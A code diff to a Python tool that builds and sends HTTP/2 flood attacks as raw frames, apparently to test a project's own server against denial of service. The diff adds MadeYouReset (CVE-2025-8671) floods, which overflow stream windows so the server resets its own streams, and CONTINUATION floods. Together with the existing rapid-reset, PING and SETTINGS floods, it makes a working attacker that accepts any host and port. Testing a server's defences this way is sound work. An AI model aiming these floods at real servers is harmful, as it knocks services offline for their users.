@@ -1,4 +1,5 @@
-"""HTTP/2 floods, as raw frames: rapid reset (CVE-2023-44487), PINGs, SETTINGS.
+"""HTTP/2 floods, as raw frames: rapid reset (CVE-2023-44487), PINGs, SETTINGS,
+MadeYouReset (CVE-2025-8671) and CONTINUATION (CVE-2024-27316's kin).
 
 ``flood_frames`` builds a flood ahead of time; ``flood`` sends it over one connection as
 fast as the socket takes it and reads what the server answers (its GOAWAY, its PING
@@ -8,15 +9,17 @@ acks) until the server closes the connection. Over TLS (ALPN ``h2``) when given 
 
 ``python -m tools.h2flood HOST PORT SECONDS [--cert CERT]`` is an attacker in a process of
 its own, so that its work is not the measured server's or the measuring client's: it
-builds one flood of each kind and prints ``ready``; then for each line on its stdin, a
-round, each flood's result printed as a JSON line, then ``done``. A flood hangs up at
-its GOAWAY (the server would hold the connection open for ``h2_fixes.LINGER_S`` more). The
-line names the round's kind:
+builds one flood of each kind its rounds send and prints ``ready``; then for each line on
+its stdin, a round, each flood's result printed as a JSON line, then ``done``. A flood
+hangs up at its GOAWAY (the server would hold the connection open for
+``h2_protocol.LINGER_S`` more). The line names the round's kind:
 
 * ``spread`` (or an empty line): one flood of each kind, each over a connection of its
   own, at even fractions of ``SECONDS``;
 * ``reconnect``: floods of the three kinds in turn for ``SECONDS`` (at least one of each),
   connecting again at once after each, as an attacker would;
+* ``madeyoureset``: MadeYouReset floods back to back for ``SECONDS`` (at least one),
+  connecting again at once after each;
 * ``burn``: no flood; the process keeps one core busy for ``SECONDS``, a control for what
   the machine's sharing alone costs the server's other clients.
 
@@ -42,31 +45,47 @@ from dataclasses import asdict, dataclass
 from pathlib import Path
 from typing import Any
 
-import h2.config
-import h2.connection
 import h2.errors
 import h2.events
-import h2.exceptions
 import h2.settings
 import hpack
 import trio
-from hyperframe.frame import DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
 
 from tools.server import REPO_ROOT
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FLOOD_BODY = {"prompt": "a", "max_new_tokens": 4}
-KINDS = ("reset", "ping", "settings")
+KINDS = ("reset", "ping", "settings")  # a ``spread`` or ``reconnect`` round's
+# What a round's floods are built from: KINDS and the ``madeyoureset`` round's.
+BUILT = (*KINDS, "madeyoureset")
+# A WINDOW_UPDATE's largest increment: on a stream's window of 65,535 it overflows 2^31-1,
+# a stream error (RFC 9113, 6.9.1) that the server answers with its own RST_STREAM.
+OVERFLOW = 2**31 - 1
 FLOOD_UNITS = 10_000  # the issue's: 10,000 HEADERS + DATA + RST_STREAM on one connection
 READ_TIMEOUT_S = 10.0  # a server that neither answers nor closes by then: the flood ends
 SEND_BYTES = 16384
+FRAME_HEADER = 9
 ATTACKER_TIMEOUT_S = 60.0  # for the attacker to build its floods, or to end a round
 
 
 def flood_frames(kind: str, count: int, host: str = "127.0.0.1", *, tls: bool = True) -> bytes:
     """The client preface and ``count`` units of a flood, as raw frames: ``reset``, a
-    POST to /v1/stream (HEADERS, DATA) and its RST_STREAM; ``ping``, a PING; ``settings``,
-    a SETTINGS frame."""
+    POST to /v1/stream (HEADERS, DATA) and its RST_STREAM; ``madeyoureset``, the POST and
+    a WINDOW_UPDATE of ``OVERFLOW`` on its stream, which makes the server reset it
+    (MadeYouReset: the client sends no RST_STREAM); ``ping``, a PING; ``settings``, a
+    SETTINGS frame; ``continuation``, one POST's HEADERS without END_HEADERS, then
+    ``count`` CONTINUATION frames of a header each, none of them the last."""
     encoder = hpack.Encoder()
     payload = json.dumps(FLOOD_BODY).encode()
     headers = [(":method", "POST"), (":scheme", "https" if tls else "http"),
@@ -80,6 +99,16 @@ def flood_frames(kind: str, count: int, host: str = "127.0.0.1", *, tls: bool = 
                                     flags=["END_HEADERS"]).serialize(),
                        DataFrame(stream_id, payload, flags=["END_STREAM"]).serialize(),
                        RstStreamFrame(stream_id, h2.errors.ErrorCodes.CANCEL).serialize()]
+        elif kind == "madeyoureset":
+            stream_id = 1 + 2 * i
+            frames += [HeadersFrame(stream_id, encoder.encode(headers),
+                                    flags=["END_HEADERS"]).serialize(),
+                       DataFrame(stream_id, payload, flags=["END_STREAM"]).serialize(),
+                       WindowUpdateFrame(stream_id, window_increment=OVERFLOW).serialize()]
+        elif kind == "continuation":
+            if i == 0:
+                frames.append(HeadersFrame(1, encoder.encode(headers)).serialize())
+            frames.append(ContinuationFrame(1, encoder.encode([(f"x-{i}", "a")])).serialize())
         elif kind == "ping":
             frames.append(PingFrame(0, i.to_bytes(8, "big")).serialize())
         elif kind == "settings":
@@ -98,6 +127,8 @@ class FloodResult:
     goaway_after_s: float | None  # from the connection's start
     ping_acks: int
     elapsed_s: float  # until the server closed, or the GOAWAY (hang_up_at_goaway)
+    server_resets: int = 0  # RST_STREAM frames from the server
+    server_closed: bool = False  # the server closed the connection (EOF or reset) first
 
     def to_json(self) -> dict[str, Any]:
         goaway = None if self.goaway is None else int(self.goaway.error_code or 0)
@@ -115,23 +146,21 @@ async def flood(host: str, port: int, context: ssl.SSLContext | None, frames: by
         stream = tls = trio.SSLStream(stream, context, server_hostname="localhost")
         await tls.do_handshake()
         assert tls.selected_alpn_protocol() == "h2"
-    reader = h2.connection.H2Connection(
-        h2.config.H2Configuration(client_side=True, header_encoding=None))
-    reader.initiate_connection()  # only to parse the server's frames
-    reader.clear_outbound_data_buffer()
-    goaway, goaway_at, acks, sent = None, None, 0, 0
+    goaway, goaway_at, acks, sent, resets, closed = None, None, 0, 0, 0, False
 
     async def read() -> None:
-        nonlocal goaway, goaway_at, acks
-        with contextlib.suppress(trio.BrokenResourceError, h2.exceptions.ProtocolError):
-            while data := await stream.receive_some(65536):
-                for event in reader.receive_data(data):
-                    if isinstance(event, h2.events.ConnectionTerminated):
-                        goaway, goaway_at = event, trio.current_time() - started
-                        if hang_up_at_goaway:
-                            nursery.cancel_scope.cancel(reason="the GOAWAY came")
-                    elif isinstance(event, h2.events.PingAckReceived):
-                        acks += 1
+        nonlocal goaway, goaway_at, acks, resets, closed
+        with contextlib.suppress(trio.BrokenResourceError):
+            async for frame in server_frames(stream):
+                if isinstance(frame, GoAwayFrame):
+                    goaway, goaway_at = terminated(frame), trio.current_time() - started
+                    if hang_up_at_goaway:
+                        nursery.cancel_scope.cancel(reason="the GOAWAY came")
+                elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
+                    acks += 1
+                elif isinstance(frame, RstStreamFrame):
+                    resets += 1
+        closed = True
 
     with trio.move_on_after(READ_TIMEOUT_S):
         async with trio.open_nursery() as nursery:
@@ -145,7 +174,39 @@ async def flood(host: str, port: int, context: ssl.SSLContext | None, frames: by
     with contextlib.suppress(trio.BrokenResourceError):
         await stream.aclose()
     return FloodResult(min(sent, len(frames)), len(frames), goaway, goaway_at, acks,
-                       trio.current_time() - started)
+                       trio.current_time() - started, resets, closed)
+
+
+async def server_frames(stream: trio.abc.Stream) -> AsyncIterator[Frame]:
+    """The server's frames, parsed by hyperframe alone until the server closes: h2's
+    client would refuse a RST_STREAM or HEADERS on a stream it did not open, and the
+    flood's streams are opened behind its back."""
+    buffer = bytearray()
+    while data := await stream.receive_some(65536):
+        buffer += data
+        while len(buffer) >= FRAME_HEADER:
+            frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[:FRAME_HEADER])))
+            if len(buffer) < FRAME_HEADER + length:
+                break
+            frame.parse_body(memoryview(bytes(buffer[FRAME_HEADER:FRAME_HEADER + length])))
+            del buffer[:FRAME_HEADER + length]
+            yield frame
+
+
+def terminated(frame: GoAwayFrame) -> h2.events.ConnectionTerminated:
+    """A GOAWAY frame as h2's event."""
+    event = h2.events.ConnectionTerminated()
+    event.error_code = _error_code(frame.error_code)
+    event.last_stream_id = frame.last_stream_id
+    event.additional_data = frame.additional_data
+    return event
+
+
+def _error_code(code: int) -> h2.errors.ErrorCodes | int:
+    try:
+        return h2.errors.ErrorCodes(code)
+    except ValueError:
+        return code
 
 
 class Attacker:
@@ -216,8 +277,9 @@ def main(argv: Sequence[str]) -> None:
     if args.cert:
         context = ssl.create_default_context(cafile=args.cert)
         context.set_alpn_protocols(["h2"])
-    floods = [flood_frames(kind, args.units, args.host, tls=context is not None)
-              for kind in KINDS]
+    built = {kind: flood_frames(kind, args.units, args.host, tls=context is not None)
+             for kind in BUILT}
+    floods = [built[kind] for kind in KINDS]
 
     async def spread() -> None:
         start = trio.current_time()
@@ -234,6 +296,13 @@ def main(argv: Sequence[str]) -> None:
                                             hang_up_at_goaway=True))
             count += 1
 
+    async def madeyoureset() -> None:
+        end, count = trio.current_time() + args.seconds, 0
+        while count < 1 or trio.current_time() < end:
+            report("madeyoureset", await flood(args.host, args.port, context,
+                                               built["madeyoureset"], hang_up_at_goaway=True))
+            count += 1
+
     async def burn() -> None:
         end = time.perf_counter() + args.seconds
         while time.perf_counter() < end:
@@ -242,7 +311,8 @@ def main(argv: Sequence[str]) -> None:
     def report(kind: str, result: FloodResult) -> None:
         print(json.dumps({"kind": kind, "units": args.units, **result.to_json()}), flush=True)
 
-    rounds = {"spread": spread, "": spread, "reconnect": reconnect, "burn": burn}
+    rounds = {"spread": spread, "": spread, "reconnect": reconnect,
+              "madeyoureset": madeyoureset, "burn": burn}
     print("ready", flush=True)
     while line := sys.stdin.readline():
         trio.run(rounds[line.strip()])
